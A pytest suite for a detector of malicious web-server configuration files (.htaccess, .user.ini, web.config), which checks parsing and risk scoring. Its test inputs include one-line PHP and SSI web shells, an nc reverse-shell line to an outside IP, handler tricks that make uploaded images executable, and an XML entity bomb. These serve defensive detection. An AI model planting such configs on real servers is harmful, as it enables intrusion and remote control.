"""Config-file analysis: what .htaccess / .user.ini / web.config make executable, and how bad it is."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from webhunt.detect.config_files import (
    ConfigLayer,
    ExecRules,
    analyse_config,
    makes_executable,
    parse_htaccess,
    parse_user_ini,
    parse_web_config,
)
from webhunt.detect.document import Document
from webhunt.languages import in_upload_dir, language_for
from webhunt.model import FileContext, Language, Layer, Reason

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
CONFIG_NAMES = {".htaccess", ".user.ini", "web.config"}


def reasons_for(text: str, relpath: str = ".htaccess") -> list[Reason]:
    data = text.encode("utf-8")
    ctx = FileContext(
        relpath=relpath, language=language_for(relpath), size=len(data), in_upload_dir=in_upload_dir(relpath)
    )
    return analyse_config(Document(data), ctx)


def top(reasons: list[Reason]) -> int:
    return max((r.score for r in reasons), default=0)


# ------------------------------------------------------------------------------------------ .htaccess


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("AddType application/x-httpd-php .jpg", ExecRules(extensions=frozenset({"jpg"}))),
        ("addhandler PHP5-SCRIPT .PNG gif", ExecRules(extensions=frozenset({"png", "gif"}))),
        (
            '  AddType "application/x-httpd-php" \\\n     .ico \\\n .txt',
            ExecRules(extensions=frozenset({"ico", "txt"})),
        ),
        (  # Apache joins a continuation without a space: a handler name split mid-word
            "AddType application/x-httpd-p\\\nhp .gif\nAddHandler php-scr\\\nipt .t\\\nxt",
            ExecRules(extensions=frozenset({"gif", "txt"})),
        ),
        (
            "<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php81 .php .php8\n</IfModule>",
            ExecRules(extensions=frozenset({"php", "php8"})),
        ),
        ("# AddType application/x-httpd-php .jpg", ExecRules()),
        ("AddType application/font-woff .woff\nAddType image/svg+xml .svg", ExecRules()),
        ("AddType application/x-httpd-php-source .phps", ExecRules()),
        (
            '<FilesMatch "\\.(jpe?g|png)$">\n SetHandler application/x-httpd-php\n</FilesMatch>',
            ExecRules(patterns=(r"\.(jpe?g|png)$",)),
        ),
        (
            '<Files ~ "\\.gif$">\nSetHandler "proxy:unix:/run/php/php7.4-fpm.sock|fcgi://localhost/"\n</Files>',
            ExecRules(patterns=(r"\.gif$",)),
        ),
        (
            '<Files "logo.gif">\nForceType application/x-httpd-php\n</Files>',
            ExecRules(filenames=frozenset({"logo.gif"})),
        ),
        ("SetHandler application/x-httpd-php", ExecRules(patterns=(".*",))),
        (
            "Action img-handler /cgi-bin/php-cgi\nAddHandler img-handler .bmp",
            ExecRules(extensions=frozenset({"bmp"})),
        ),
        ("AddOutputFilter INCLUDES .jpg", ExecRules(extensions=frozenset({"jpg"}))),
        ('php_value auto_prepend_file "/tmp/x.jpg"', ExecRules(prepend=("/tmp/x.jpg",))),
        ("php_value auto_append_file none", ExecRules()),
        ("<IfModule mod_php.c>\nphp_flag engine off\n</IfModule>", ExecRules(engine_off=True)),
        ("RemoveHandler .php .phtml", ExecRules(engine_off=True)),
        ('<FilesMatch "\\.php$">\n SetHandler none\n</FilesMatch>', ExecRules(engine_off=True)),
        ("AddHandler cgi-script .sh .jpg\nOptions -ExecCGI", ExecRules()),
        ("Options None\nAddHandler cgi-script .jpg", ExecRules()),
        (
            "Options -ExecCGI\nOptions +ExecCGI\nAddHandler cgi-script .jpg",
            ExecRules(extensions=frozenset({"jpg"})),
        ),
        (
            "Options -ExecCGI\nAddType application/x-httpd-php .jpg",
            ExecRules(extensions=frozenset({"jpg"})),
        ),
    ],
)
def test_parse_htaccess(text: str, expected: ExecRules) -> None:
    assert parse_htaccess(text) == expected


def test_files_wildcard_becomes_a_pattern() -> None:
    rules = parse_htaccess("<Files *.txt>\nSetHandler php-script\n</Files>")
    assert makes_executable(rules, "notes.txt")
    assert not makes_executable(rules, "notes.csv")


def test_unbalanced_sections_and_garbage_do_not_raise() -> None:
    text = (
        "</Files>\n<Files\n<>\nAddType\nSetHandler\n\\\n"
        + "x" * 5000
        + "\n<FilesMatch (unclosed[>\nSetHandler php"
    )
    rules = parse_htaccess(text)
    assert rules.patterns == ("(unclosed[",)
    assert not makes_executable(rules, "a.jpg")  # a regex Python cannot compile matches nothing


# ------------------------------------------------------------------------------------------ .user.ini


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("auto_prepend_file=avatar.png", ExecRules(prepend=("avatar.png",))),
        ("auto_append_file = '/dev/shm/x.php' ; trailing", ExecRules(prepend=("/dev/shm/x.php",))),
        (
            'AUTO_PREPEND_FILE = "data://text/plain;base64,PD9w"',
            ExecRules(prepend=("data://text/plain;base64,PD9w",)),
        ),
        ("; auto_prepend_file=avatar.png\nmemory_limit = 256M", ExecRules()),
        ("engine = Off", ExecRules(engine_off=True)),
        ("[section]\nauto_prepend_file=none", ExecRules()),
    ],
)
def test_parse_user_ini(text: str, expected: ExecRules) -> None:
    assert parse_user_ini(text) == expected


# ------------------------------------------------------------------------------------------ web.config

_WEB_CONFIG = """<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.webServer><handlers>{handlers}</handlers></system.webServer></configuration>
"""


@pytest.mark.parametrize(
    ("handlers", "expected"),
    [
        (
            '<add name="x" path="*.jpg" verb="*" modules="FastCgiModule" scriptProcessor="C:\\php\\php-cgi.exe"/>',
            ExecRules(extensions=frozenset({"jpg"})),
        ),
        (
            '<add name="x" path="*.config" verb="*" modules="IsapiModule" '
            'scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll"/>',
            ExecRules(extensions=frozenset({"config"})),
        ),
        (
            '<add name="p" path="*.png" verb="*" type="System.Web.UI.PageHandlerFactory"/>',
            ExecRules(extensions=frozenset({"png"})),
        ),
        ('<add name="s" path="*" verb="*" modules="StaticFileModule"/>', ExecRules()),
        (
            '<add name="ExtensionlessUrlHandler" path="*." verb="*" type="System.Web.Handlers.TransferRequestHandler"/>',
            ExecRules(),
        ),
        (
            '<add name="w" path="web.config" verb="*" modules="IsapiModule"/>',
            ExecRules(filenames=frozenset({"web.config"})),
        ),
        (
            '<add name="py" path="*" verb="*" modules="FastCgiModule" scriptProcessor="c:\\python\\python.exe"/>',
            ExecRules(patterns=(".*",)),
        ),
    ],
)
def test_parse_web_config_handlers(handlers: str, expected: ExecRules) -> None:
    assert parse_web_config(_WEB_CONFIG.format(handlers=handlers)) == expected


def test_web_config_build_provider_maps_extension() -> None:
    text = (
        '<configuration><system.web><compilation><buildProviders><add extension=".jpg" '
        'type="System.Web.Compilation.PageBuildProvider"/></buildProviders></compilation></system.web></configuration>'
    )
    assert parse_web_config(text).extensions == frozenset({"jpg"})


def test_web_config_with_doctype_is_not_expanded() -> None:
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{"&lol;" * 10 if i == 1 else f"&lol{i - 1};" * 10}">' for i in range(1, 10)
        )
        + ']><configuration><system.webServer><handlers><add name="i" path="*.gif" verb="*" '
        'modules="FastCgiModule" scriptProcessor="php-cgi.exe"/></handlers></system.webServer>'
        "<x>&lol9;</x></configuration>"
    )
    assert parse_web_config(bomb).extensions == frozenset({"gif"})  # tag scan, no entity expansion
    reasons = reasons_for(bomb, "web.config")
    assert {r.id for r in reasons} >= {"WH-CFG-WEBCONFIG-REFUSED", "WH-CFG-WEBCONFIG-HANDLER-IMAGE"}


def test_malformed_web_config_falls_back_to_tag_scan() -> None:
    text = (
        '<configuration><handlers><add name="x" path="*.ico" modules="CgiModule" scriptProcessor="perl.exe">'
    )
    assert parse_web_config(text).extensions == frozenset({"ico"})


# ------------------------------------------------------------------------------------------ makes_executable


@pytest.mark.parametrize(
    ("rules", "name", "expected"),
    [
        (ExecRules(extensions=frozenset({"jpg"})), "avatar.jpg", True),
        (ExecRules(extensions=frozenset({"jpg"})), "uploads/2024/AVATAR.JPG", True),
        (ExecRules(extensions=frozenset({"jpg"})), "avatar.png", False),
        (ExecRules(extensions=frozenset({"php"})), "shell.php.png", True),  # mod_mime: every extension counts
        (ExecRules(extensions=frozenset({"php"})), "index.php", False),  # runs anyway: not *made* executable
        (ExecRules(extensions=frozenset({"htaccess"})), ".htaccess", True),
        (ExecRules(filenames=frozenset({"logo.gif"})), "img/logo.gif", True),
        (ExecRules(filenames=frozenset({"logo.gif"})), "logo2.gif", False),
        (ExecRules(patterns=(r"\.(jpe?g|png)$",)), "a.jpeg", True),
        (ExecRules(patterns=(".*",)), "anything.bin", True),
        (ExecRules(prepend=("/var/www/html/uploads/avatar.jpg",)), "avatar.jpg", True),
        (ExecRules(prepend=("data://text/plain;base64,xx",)), "xx", False),
        (ExecRules(engine_off=True), "a.jpg", False),
        (ExecRules(), "", False),
    ],
)
def test_makes_executable(rules: ExecRules, name: str, expected: bool) -> None:
    assert makes_executable(rules, name) is expected


# ------------------------------------------------------------------------------------------ analyse_config


@pytest.mark.parametrize(
    ("text", "relpath", "rule", "minimum"),
    [
        ("AddType application/x-httpd-php .jpg", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-IMAGE", 70),
        ("AddHandler cgi-script .txt", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-TEXT", 70),
        (
            '<FilesMatch "\\.png$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
            ".htaccess",
            "WH-CFG-HTACCESS-SETHANDLER-IMAGE",
            70,
        ),
        (
            "php_value auto_prepend_file /var/www/x/logo.png",
            ".htaccess",
            "WH-CFG-HTACCESS-PREPEND-NONSCRIPT",
            75,
        ),
        ("php_value auto_prepend_file /tmp/x.php", ".htaccess", "WH-CFG-HTACCESS-PREPEND-TMP", 75),
        ("auto_prepend_file=php://input", ".user.ini", "WH-CFG-USERINI-PREPEND-WRAPPER", 90),
        ("disable_functions = None\nopen_basedir = OFF\n", ".user.ini", "WH-CFG-USERINI-PHP-UNRESTRICT", 50),
        (
            "AddType application/x-httpd-php .htaccess\n# <?php system($_GET['c']); ?>",
            ".htaccess",
            "WH-CFG-HTACCESS-ADDTYPE-SELF-EXEC",
            90,
        ),
        (
            "php_value auto_append_file .htaccess\n#<?php eval($_POST[1]);",
            ".htaccess",
            "WH-CFG-HTACCESS-PREPEND-SELF",
            90,
        ),
        (
            '<Files ~ "^\\.ht">\nAllow from all\nSetOutputFilter INCLUDES\n</Files>\nOptions +Includes\n'
            '#<!--#exec cmd="$QUERY_STRING_UNESCAPED" -->',
            ".htaccess",
            "WH-CFG-HTACCESS-SETHANDLER-SELF-EXEC",
            80,
        ),
        (
            "AddType text/html .htaccess\n<Files *.htaccess>\nSetHandler ruby-object\n"
            "RubyHandler Apache::ERbRun.instance\n</Files>\n# <% puts `#{cgi['c']}` %>",
            # a copy kept under another name is judged as what it does once renamed
            "uploads/shell.htaccess",
            "WH-CFG-HTACCESS-SETHANDLER-SELF-EXEC",
            80,
        ),
        ("SetHandler application/x-httpd-php", "uploads/.htaccess", "WH-CFG-HTACCESS-SETHANDLER-ALL", 70),
        ("php_flag engine on", "uploads/.htaccess", "WH-CFG-HTACCESS-ENGINE-ON", 30),
        ("AddType application/x-httpd-php .haha", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
        # a language's own extension counts for its own handler only, and not in an upload directory
        ("AddType application/x-httpd-php .lua", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
        ("AddHandler wsgi-script .lua", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
        ("AddHandler cgi-script .lua .izo", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
        ("AddHandler cgi-script .sh", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
        ("AddHandler cgi-script .lua", "uploads/.htaccess", "WH-CFG-HTACCESS-ADDTYPE-UNUSUAL", 40),
        # script engines other than PHP and CGI: mod_rivet (Tcl), mod_lua, mod_wsgi
        ("AddType application/x-httpd-rivet .gif", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-IMAGE", 70),
        ("AddHandler lua-script .txt", ".htaccess", "WH-CFG-HTACCESS-ADDTYPE-TEXT", 70),
        (
            '<Files "logo.png">\nSetHandler wsgi-script\n</Files>',
            ".htaccess",
            "WH-CFG-HTACCESS-SETHANDLER-IMAGE",
            70,
        ),
        # mod_sendmail told to run a shell tool in place of the mail program
        (
            "SetHandler sendmail\nSendmailName /bin/nc\nSendmailArguments -e /bin/sh 203.0.113.9 4444",
            ".htaccess",
            "WH-CFG-HTACCESS-PROGRAM",
            80,
        ),
        # sources in UTF-16/UTF-7 run once zend.multibyte is on: next to a mapping, or read as such
        (
            "AddType application/x-httpd-php .p16\nphp_value zend.multibyte 1",
            ".htaccess",
            "WH-CFG-HTACCESS-PHP-MULTIBYTE",
            70,
        ),
        (
            "zend.multibyte = 1\nzend.script_encoding = UTF-16LE",
            ".user.ini",
            "WH-CFG-USERINI-PHP-ENCODING",
            70,
        ),
        ("zend.multibyte = On", "uploads/.user.ini", "WH-CFG-USERINI-PHP-MULTIBYTE", 70),
        ("# <?php eval($_POST['a']); ?>", ".htaccess", "WH-CFG-HTACCESS-CODE", 40),
        # a handler scoped to a name's stem: the image uploaded under that name runs
        (
            '<FilesMatch "^avatar">\nSetHandler application/x-httpd-php\n</FilesMatch>',
            ".htaccess",
            "WH-CFG-HTACCESS-SETHANDLER-STEM",
            70,
        ),
        (
            '<Files "logo-*">\nForceType application/x-httpd-php\n</Files>',
            ".htaccess",
            "WH-CFG-HTACCESS-SETHANDLER-STEM",
            70,
        ),
        # PHP's error or mail log written into a script
        ("php_value error_log /var/www/html/e.php", ".htaccess", "WH-CFG-HTACCESS-LOG-SCRIPT", 75),
        ('mail.log = "x/queue.phtml"', ".user.ini", "WH-CFG-USERINI-LOG-SCRIPT", 75),
        # visitors from search engines sent to another site
        (
            "RewriteCond %{HTTP_REFERER} google [NC]\nRewriteRule ^ https://example.invalid/ [R,L]",
            ".htaccess",
            "WH-CFG-HTACCESS-SEARCH-REDIRECT",
            70,
        ),
        # phones sent to another site unless the agent names a crawler (a cloaked redirect)
        (
            "RewriteCond %{HTTP_USER_AGENT} (android|iphone) [NC]\n"
            "RewriteCond %{HTTP_USER_AGENT} !googlebot [NC]\n"
            "RewriteRule ^ https://example.invalid/go [R=302,L]",
            ".htaccess",
            "WH-CFG-HTACCESS-CLOAKED-REDIRECT",
            65,
        ),
        (
            _WEB_CONFIG.format(handlers='<add name="x" path="*.gif" verb="*" modules="CgiModule"/>'),
            "web.config",
            "WH-CFG-WEBCONFIG-HANDLER-IMAGE",
            70,
        ),
        # a listed folder of symbolic links whose PHP targets are served as text: configs read
        (
            "Options Indexes FollowSymLinks\nAddType text/plain .php",
            ".htaccess",
            "WH-CFG-HTACCESS-SYMLINK-READER",
            70,
        ),
        ("Options All\nAddHandler txt .php5", ".htaccess", "WH-CFG-HTACCESS-SYMLINK-READER", 70),
        (
            'Options +Indexes +SymLinksIfOwnerMatch\n<Files ~ "\\.php$">\nForceType text/plain\n</Files>',
            ".htaccess",
            "WH-CFG-HTACCESS-SYMLINK-READER",
            70,
        ),
        # a php.ini (php5.ini) beside the script: PHP run as CGI reads it
        ("safe_mode = Off\ndisable_functions = NONE\n", "php.ini", "WH-CFG-USERINI-PHP-UNRESTRICT", 50),
        ("open_basedir = /\ndisable_functions =\n", "blog/php5.ini", "WH-CFG-USERINI-PHP-UNRESTRICT", 50),
    ],
)
def test_tricks_are_explained(text: str, relpath: str, rule: str, minimum: int) -> None:
    reasons = reasons_for(text, relpath)
    found = {r.id: r for r in reasons}
    assert rule in found, [r.id for r in reasons]
    reason = found[rule]
    assert reason.score >= minimum
    assert reason.layer is Layer.CONFIG and reason.family == "config"
    assert reason.line is not None and reason.snippet and reason.description


def test_reason_names_line_and_snippet_of_the_directive() -> None:
    text = "# cache\nOptions -Indexes\n<IfModule mod_mime.c>\n  AddType application/x-httpd-php .jpg .png\n</IfModule>\n"
    (reason,) = reasons_for(text)
    assert reason.line == 4
    assert reason.snippet == "AddType application/x-httpd-php .jpg .png"
    assert ".jpg" in reason.description and ".png" in reason.description


@pytest.mark.parametrize(
    ("text", "relpath"),
    [
        (
            "<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteRule . /index.php [L]\n</IfModule>",
            ".htaccess",
        ),
        ("AddType application/font-woff .woff", ".htaccess"),
        ("AddHandler application/x-httpd-php .html .htm", ".htaccess"),
        ("AddHandler .php .html .jpg .png", ".htaccess"),  # an extension is no handler: nothing runs
        ("Options +ExecCGI\nSetHandler cgi-script", "cgi-bin/.htaccess"),
        # handlers paired with their own language's extension: mod_wsgi, mod_lua, mod_python, Rivet,
        # Lua and Tcl CGI programs
        ("AddHandler wsgi-script .wsgi", ".htaccess"),
        ("AddHandler lua-script .lua\nAddType application/x-httpd-lua .lua", ".htaccess"),
        ("AddHandler mod_python .psp", ".htaccess"),
        ("AddType application/x-httpd-rivet .rvt", ".htaccess"),
        ("Options +ExecCGI\nAddHandler cgi-script .lua .tcl\nAddHandler fcgid-script .lua", "app/.htaccess"),
        ("<Files article>\nForceType application/x-httpd-php\n</Files>", ".htaccess"),
        ("php_flag engine off", "uploads/.htaccess"),
        ("auto_prepend_file = '/var/www/html/wordfence-waf.php'", ".user.ini"),
        ("memory_limit = 256M\nupload_max_filesize = 64M", ".user.ini"),
        ("php_value zend.multibyte On\nphp_value zend.script_encoding SJIS-win", ".htaccess"),
        ("SetHandler sendmail\nSendmailName /usr/sbin/sendmail\nSendmailArguments -t -i", ".htaccess"),
        ('<FilesMatch "^(about|contact)$">\nForceType application/x-httpd-php\n</FilesMatch>', ".htaccess"),
        ('<FilesMatch "\\.(php|phtml)$">\nSetHandler application/x-lsphp81\n</FilesMatch>', ".htaccess"),
        ("php_value error_log /home/u/logs/php_errors.log", ".htaccess"),
        ("error_log = syslog\nmail.log = /home/u/logs/mail.log", ".user.ini"),
        # hotlink protection lets search engines through (negated), a search landing page stays local
        (
            "RewriteCond %{HTTP_REFERER} !google [NC]\nRewriteRule \\.png$ https://cdn.example.org/x.png [R]",
            ".htaccess",
        ),
        ("RewriteCond %{HTTP_REFERER} bing [NC]\nRewriteRule ^promo$ /landing.html [R,L]", ".htaccess"),
        (
            _WEB_CONFIG.format(handlers='<add name="PHP" path="*.php" verb="*" modules="FastCgiModule"/>'),
            "web.config",
        ),
        # scripts shown as text without a listing of followed links: hardening, or example sources
        ("Options -Indexes +FollowSymLinks\nAddType text/plain .php .phtml", "uploads/.htaccess"),
        ("Options +Indexes\nAddType text/plain .php", ".htaccess"),
        ("Options All\nOptions FollowSymLinks\nAddType text/plain .php", ".htaccess"),  # bare: resets
        ("Options Indexes FollowSymLinks\nAddType text/plain .txt .log", ".htaccess"),
        ("Options Indexes FollowSymLinks\nRewriteEngine On\nRewriteRule . /index.php [L]", ".htaccess"),
        ("memory_limit = 256M\nmax_execution_time = 120", "php.ini"),
    ],
)
def test_ordinary_configuration_stays_informational(text: str, relpath: str) -> None:
    assert top(reasons_for(text, relpath)) < 15


def test_a_whole_php_ini_copy_states_defaults_not_a_kit() -> None:
    """A host's copy of PHP's php.ini writes ``safe_mode = Off`` and ``disable_functions =`` out
    among hundreds of settings: PHP's defaults, not a kit's few lines lifting the sandbox."""
    settings = [f"setting_{i} = {i}" for i in range(60)]
    copy = "\n".join([*settings[:30], "safe_mode = Off", "disable_functions =", *settings[30:]])
    assert top(reasons_for(copy, "php.ini")) < 40
    # the same two lines alone are the kit's helper file
    assert top(reasons_for("safe_mode = Off\ndisable_functions =\n", "php.ini")) >= 50
    # an explicit lift stays one inside a long file
    lifted = "\n".join([*settings, "disable_functions = none", "open_basedir = /"])
    assert top(reasons_for(lifted, "php.ini")) >= 50


def test_other_languages_get_no_reasons() -> None:
    ctx = FileContext(relpath="index.php", language=Language.PHP, size=10)
    assert analyse_config(Document(b"AddType application/x-httpd-php .jpg"), ctx) == []


def test_config_layer_follows_the_layer_protocol() -> None:
    layer = ConfigLayer()
    assert layer.layer is Layer.CONFIG and layer.costly is False
    data = b"AddType application/x-httpd-php .gif"
    ctx = FileContext(relpath=".htaccess", language=Language.HTACCESS, size=len(data))
    reasons = layer(Document(data), ctx, lambda _d, _c: pytest.fail("config analysis never rescans"))
    assert [r.id for r in reasons] == ["WH-CFG-HTACCESS-ADDTYPE-IMAGE"]


# ------------------------------------------------------------------------------------------ the samples


def _config_samples(base: Path) -> list[Path]:
    return sorted(p for p in base.rglob("*") if p.is_file() and p.name in CONFIG_NAMES)


MALICIOUS = _config_samples(SAMPLES / "config")
BENIGN = _config_samples(SAMPLES / "benign" / "config")


def _analyse_sample(path: Path, root: Path) -> list[Reason]:
    relpath = "/".join(path.relative_to(root).parts)
    data = path.read_bytes()
    ctx = FileContext(
        relpath=relpath, language=language_for(relpath), size=len(data), in_upload_dir=in_upload_dir(relpath)
    )
    return analyse_config(Document(data), ctx)


def test_there_are_enough_config_samples() -> None:
    assert len(MALICIOUS) >= 20 and len(BENIGN) >= 12


@pytest.mark.parametrize("path", MALICIOUS, ids=[str(p.relative_to(SAMPLES)) for p in MALICIOUS])
def test_malicious_config_sample_scores_high(path: Path) -> None:
    reasons = _analyse_sample(path, SAMPLES / "config" / "config")
    assert top(reasons) >= 70, [(r.id, r.score) for r in reasons]


@pytest.mark.parametrize("path", BENIGN, ids=[str(p.relative_to(SAMPLES)) for p in BENIGN])
def test_benign_config_sample_stays_informational(path: Path) -> None:
    reasons = _analyse_sample(path, SAMPLES / "benign" / "config")
    assert top(reasons) < 15, [(r.id, r.score) for r in reasons]


#: Tricks that make nothing executable: PHP's own log written into a script, search visitors
#: redirected, phones redirected unless they are crawlers, scripts served as text in a folder of
#: symbolic links.
_NOT_MAPPINGS = ("-LOG-SCRIPT", "-SEARCH-REDIRECT", "-CLOAKED-REDIRECT", "-SYMLINK-READER")


@pytest.mark.parametrize("path", MALICIOUS, ids=[str(p.relative_to(SAMPLES)) for p in MALICIOUS])
def test_malicious_config_sample_makes_something_executable(path: Path) -> None:
    text = path.read_bytes().decode("latin-1")
    parse = {".htaccess": parse_htaccess, ".user.ini": parse_user_ini, "web.config": parse_web_config}[
        path.name
    ]
    rules = parse(text)
    if any(r.id.endswith(_NOT_MAPPINGS) for r in _analyse_sample(path, SAMPLES / "config" / "config")):
        return
    assert rules.extensions or rules.filenames or rules.patterns or rules.prepend


# ------------------------------------------------------------------------------------------ robustness


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/\"'\\ \n\t#~*.=;[]AaFfSsXxpPhH:%&")), max_size=400))
def test_parsers_never_raise_on_arbitrary_text(text: str) -> None:
    for parse in (parse_htaccess, parse_user_ini, parse_web_config):
        rules = parse(text)
        assert isinstance(rules, ExecRules)
        makes_executable(rules, "a.jpg")
    for name in CONFIG_NAMES:
        reasons_for(text, name)
